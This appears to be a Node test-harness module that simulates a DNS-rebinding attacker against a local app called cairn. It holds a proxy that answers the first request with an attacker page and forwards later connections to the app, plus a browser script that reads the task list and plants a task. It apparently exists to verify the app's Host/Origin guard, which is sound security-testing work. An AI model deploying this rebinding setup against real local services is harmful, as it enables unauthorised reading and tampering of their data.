// A DNS-rebinding attacker, played for real. Chromium resolves evil.test to
// 127.0.0.1 (--host-resolver-rules in harness.mjs); this server listens there
// and does what the attacker's DNS does: the first request gets the attacker's
// page, and from then on the name "points at" cairn, so every later connection
// is passed byte for byte to cairn's port. The browser sees one origin,
// http://evil.test:<port>, and its fetches reach cairn with `Host: evil.test:<port>`
// and `Origin: http://evil.test:<port>`, exactly as after a real rebinding. (A
// page fetching cairn's own port instead would be cross-origin, and CORS alone
// would stop it, guard or no guard.)
import { connect, createServer } from "node:net";

/** The attacker's script: read the task list, then plant a task; reports what it got. */
const ATTACK = `
(async () => {
  const out = {};
  try {
    const r = await fetch("/api/v1/tasks");
    out.read = r.status;
    out.readBody = await r.text();
  } catch (e) {
    out.read = String(e);
  }
  try {
    const r = await fetch("/api/v1/tasks", {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ title: "planted by evil.test" }),
    });
    out.write = r.status;
  } catch (e) {
    out.write = String(e);
  }
  window.__attack = out;
})();
`;

const PAGE = `<!doctype html><title>evil.test</title><link rel="icon" href="data:,"><script>${ATTACK}</script>`;

export const PLANTED_TITLE = "planted by evil.test";

/** Starts the attacker in front of cairn's `targetPort`; `origin` is the page to open. */
export async function startRebinder(targetPort) {
  let rebound = false;
  const sockets = new Set();
  const server = createServer((socket) => {
    sockets.add(socket);
    socket.on("close", () => sockets.delete(socket));
    socket.on("error", () => socket.destroy());
    // Decided on the first bytes, not on connect: Chromium opens spare sockets early.
    socket.once("data", (first) => {
      if (!rebound) {
        rebound = true;
        const body = Buffer.from(PAGE);
        socket.end(
          `HTTP/1.1 200 OK\r\ncontent-type: text/html; charset=utf-8\r\ncontent-length: ${body.length}\r\nconnection: close\r\n\r\n${body}`,
        );
        return;
      }
      const upstream = connect(targetPort, "127.0.0.1");
      sockets.add(upstream);
      upstream.on("close", () => sockets.delete(upstream));
      upstream.on("error", () => socket.destroy());
      socket.on("close", () => upstream.destroy());
      upstream.write(first);
      socket.pipe(upstream).pipe(socket);
    });
  });
  await new Promise((ok, fail) => {
    server.once("error", fail);
    server.listen(0, "127.0.0.1", ok);
  });
  const { port } = server.address();
  return {
    origin: `http://evil.test:${port}`,
    close: () =>
      new Promise((done) => {
        for (const s of sockets) s.destroy();
        server.close(() => done());
      }),
  };
}
